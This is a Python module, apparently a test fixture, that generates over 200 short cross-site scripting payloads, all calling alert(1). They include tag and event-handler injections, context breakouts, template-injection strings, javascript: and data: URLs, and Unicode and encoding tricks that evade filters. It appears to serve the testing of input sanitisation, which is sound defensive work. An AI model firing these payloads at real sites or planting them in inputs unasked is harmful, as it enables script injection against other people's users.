"""Text that would run a script wherever a page let it out of its place. All of it calls `alert`."""

import html
from itertools import product
from urllib.parse import quote

MOST = 64  # characters: the shortest of the names that people may give

_ELEMENTS = [
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT >", "<script/x>{}</script>", "<scr<script>ipt>{}</script>",
    "<img src=x onerror={}>", "<img/src=x/onerror={}>", "<IMG SRC=x OnErRoR={}>", "<img src=x onerror='{}'>",
    "<svg onload={}>", "<svg/onload={}>", "<svg><script>{}</script></svg>", "<svg><animate onbegin={} dur=1s>",
    "<body onload={}>", "<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<details open ontoggle={}>",
    "<video><source onerror={}>", "<audio src=x onerror={}>", "<iframe src=javascript:{}>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>", "<a href=javascript:{}>x</a>", "<math href=javascript:{}>x", "<marquee onstart={}>",
    "<iframe srcdoc='<script>{}</script>'>", "<form action=javascript:{}><button>", "<p onmouseover={}>x",
    "<x onclick={}>x",
    "<style onload={}></style>", "<link rel=stylesheet href=x onerror={}>", "<base href=javascript:{}//>",
]  # fmt: skip
_OUT_OF = ["", '">', "'>", "-->", "</script>", "</title>", "</textarea>", "</select>"]
_ATTRIBUTES = [
    "onmouseover={}",
    "onfocus={} autofocus",
    "onclick={}",
    "style=x onload={}",
    "hx-on:load={}",
    "data-x={}",
]
_SCRIPTS = [
    '";{};//', "';{};//", "`;{};//", "${{{}}}", "`${{{}}}`", "\\';{};//", '\\";{};//', '"}};{};//', "'-{}-'", '"-{}-"',
    "*/{};/*", "\\u0022;{};//", "\u2028{}//", "\n{}\n//", '"]]}};{};//', "</script\n><script>{}//", "<!--<script>{}",
]  # fmt: skip
_TEMPLATES = ["{{{{{}}}}}", "{{% {} %}}", "{{{{constructor.constructor('{}')()}}}}", "#{{{}}}", "<%= {} %>", "[[{}]]"]
_ADDRESSES = [
    "javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "java\tscript:{}", "javascript://%0a{}", "\x01javascript:{}",
    "data:text/html,<script>{}</script>", "vbscript:{}", "//x/<script>{}</script>", "javascript&colon;{}",
]  # fmt: skip
_TRICKS = [
    "\ufeff<script>{}</script>", "\u202e<img src=x onerror={}>", "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "\u00bcscript\u00be{}", "+ADw-script+AD4-{}+ADw-/script+AD4-", "<img\u000csrc=x\u000conerror={}>",
    "<img src=x onerror\u00a0={}>", "<svg\u2028onload={}>", "&#60;img src=x onerror={}&#62;", "\u02bc><svg onload={}>",
]  # fmt: skip


def payloads():
    """At least 200, all of them different, none longer than MOST and none with a NUL, which no field takes."""
    call = "alert(1)"
    made = [
        out + element.format(call)
        for position, element in enumerate(_ELEMENTS)
        for out in (_OUT_OF[:4] if position % 2 else _OUT_OF[4:])  # every way out meets half of the elements
    ]
    made += [f"x{mark} {attribute.format(call)} {mark}" for attribute, mark in product(_ATTRIBUTES, ['"', "'", ""])]
    made += [text.format(call) for text in (*_SCRIPTS, *_TEMPLATES, *_ADDRESSES, *_TRICKS)]
    made += [html.escape(element.format(call)) for element in _ELEMENTS[:8]]
    made += [quote(element.format(call)) for element in _ELEMENTS[:8]]
    return [text for text in dict.fromkeys(made) if len(text) <= MOST]
